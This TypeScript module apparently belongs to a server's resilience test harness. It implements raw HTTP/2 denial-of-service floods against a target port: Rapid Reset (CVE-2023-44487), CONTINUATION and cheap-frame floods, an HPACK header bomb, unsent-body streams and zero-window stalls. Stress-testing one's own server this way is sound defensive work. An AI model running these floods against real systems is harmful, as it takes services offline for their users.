/** Attacks over HTTP/2: streams and frames that no library would send. */
import type { AttackContext, Seen } from "../attacker.ts";
import {
  type Bytes,
  CANCEL,
  END_HEADERS,
  END_STREAM,
  Frame,
  frame,
  headerBlock,
  indexedHeader,
  joined,
  NOTHING,
  RawHttp2,
  type RawSettings,
  repeatedHeader,
  requestBlock,
  seenBy,
  Setting,
  settings as settingsFrame,
  uint32,
} from "../raw_http2.ts";

/** What the server takes at once on a connection. */
const STREAMS_AT_ONCE = 190;

const times = <T>(count: number, make: (index: number) => T): T[] =>
  Array.from({ length: count }, (_, index) => make(index));

const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** Opens connections, lets each do its part, and holds them until told. */
async function each(
  { port, underWay, told }: AttackContext<unknown>,
  count: number,
  options: RawSettings,
  work: (raw: RawHttp2) => Promise<void>,
): Promise<Seen> {
  const connections = await Promise.all(
    times(count, () => RawHttp2.connect(port, options)),
  );
  await Promise.all(connections.map(work));
  await pause(500);
  underWay();
  await told;
  const seen = seenBy(connections);
  await Promise.all(connections.map((connection) => connection.close()));
  return seen;
}

/** Streams that announce a body of which little or nothing comes. */
export function claimedStreams(
  context: AttackContext<{
    connections: number;
    streams?: number;
    path: string;
    claimBytes: number;
    sentBytes?: number;
    headers?: Record<string, string>;
  }>,
): Promise<Seen> {
  const { connections, streams, path, claimBytes, sentBytes, headers } =
    context.settings;
  const block = requestBlock("POST", path, {
    "content-length": `${claimBytes}`,
    ...headers,
  });
  const body = new Uint8Array(sentBytes ?? 0);
  return each(context, connections, {}, async (raw) => {
    for (let i = 0; i < (streams ?? STREAMS_AT_ONCE); i++) {
      const stream = raw.stream();
      await raw.send(
        frame(Frame.HEADERS, END_HEADERS, stream, block),
        ...(body.length > 0 ? [frame(Frame.DATA, 0, stream, body)] : []),
      );
    }
  });
}

/** Streams opened and reset at once (CVE-2023-44487). */
export function rapidReset(
  context: AttackContext<{
    connections: number;
    streams: number;
    path: string;
    headers?: Record<string, string>;
  }>,
): Promise<Seen> {
  const { connections, streams, path, headers } = context.settings;
  const block = requestBlock("GET", path, headers);
  return each(context, connections, {}, async (raw) => {
    for (let i = 0; i < streams && raw.isOpen; i++) {
      const stream = raw.stream();
      await raw.send(
        frame(Frame.HEADERS, END_HEADERS | END_STREAM, stream, block),
        frame(Frame.RST_STREAM, 0, stream, uint32(CANCEL)),
      );
    }
  });
}

/** The same frame over and over; every kind that costs the sender little. */
export function frameFlood(
  context: AttackContext<{
    kind: "settings" | "ping" | "emptyData" | "priority" | "windowUpdate";
    frames: number;
    connections: number;
  }>,
): Promise<Seen> {
  const { kind, frames, connections } = context.settings;
  const atOnce = 500;
  return each(context, connections, {}, async (raw) => {
    const stream = raw.stream();
    const opening = frame(
      Frame.HEADERS,
      END_HEADERS,
      stream,
      requestBlock("POST", "/v2/snapshot_read"),
    );
    const flood: Record<typeof kind, Bytes> = {
      settings: settingsFrame([[Setting.INITIAL_WINDOW_SIZE, 65_535]]),
      ping: frame(Frame.PING, 0, 0, new Uint8Array(8)),
      emptyData: frame(Frame.DATA, 0, stream),
      priority: frame(
        Frame.PRIORITY,
        0,
        stream,
        new Uint8Array([0, 0, 0, 0, 9]),
      ),
      windowUpdate: frame(Frame.WINDOW_UPDATE, 0, 0, uint32(1)),
    };
    if (kind === "emptyData") await raw.send(opening);
    const group = joined(times(atOnce, () => flood[kind]));
    for (let sent = 0; sent < frames && raw.isOpen; sent += atOnce) {
      await raw.send(group);
    }
  });
}

/** A head that goes on in CONTINUATION frames and never ends. */
export function continuationFlood(
  context: AttackContext<{ connections: number; frames: number }>,
): Promise<Seen> {
  const { connections, frames } = context.settings;
  const part = headerBlock(times(40, (i) => [`x-${i}`, "y".repeat(300)]));
  return each(context, connections, {}, async (raw) => {
    const stream = raw.stream();
    await raw.send(
      frame(Frame.HEADERS, 0, stream, requestBlock("GET", "/-/health")),
    );
    for (let i = 0; i < frames && raw.isOpen; i++) {
      await raw.send(frame(Frame.CONTINUATION, 0, stream, part));
    }
  });
}

/** A header of 4,000 bytes that is named again by a byte, 10,000 times. */
export function headerBomb(
  context: AttackContext<{ connections: number; streams: number }>,
): Promise<Seen> {
  const { connections, streams } = context.settings;
  const stored = indexedHeader("x-bomb", "b".repeat(4000));
  const plain = requestBlock("GET", "/-/health");
  return each(context, connections, {}, async (raw) => {
    for (let i = 0; i < streams && raw.isOpen; i++) {
      const block = joined([plain, stored, repeatedHeader(10_000)]);
      await raw.send(
        frame(Frame.HEADERS, END_HEADERS | END_STREAM, raw.stream(), block),
      );
    }
  });
}

/** Requests whose answers may not be sent: a flow control window of `window`. */
export function shutWindows(
  context: AttackContext<{
    connections: number;
    streams: number;
    window: number;
    path: string;
    method: string;
    body?: number[];
    headers?: Record<string, string>;
  }>,
): Promise<Seen> {
  const { connections, streams, window, path, method, body, headers } =
    context.settings;
  const block = requestBlock(method, path, headers);
  const bytes = body === undefined ? NOTHING : new Uint8Array(body);
  return each(context, connections, {
    settings: [[Setting.INITIAL_WINDOW_SIZE, window]],
  }, async (raw) => {
    for (let i = 0; i < streams; i++) {
      const stream = raw.stream();
      const isWhole = bytes.length === 0;
      await raw.send(
        frame(
          Frame.HEADERS,
          END_HEADERS | (isWhole ? END_STREAM : 0),
          stream,
          block,
        ),
        ...(isWhole ? [] : [frame(Frame.DATA, END_STREAM, stream, bytes)]),
      );
    }
  });
}
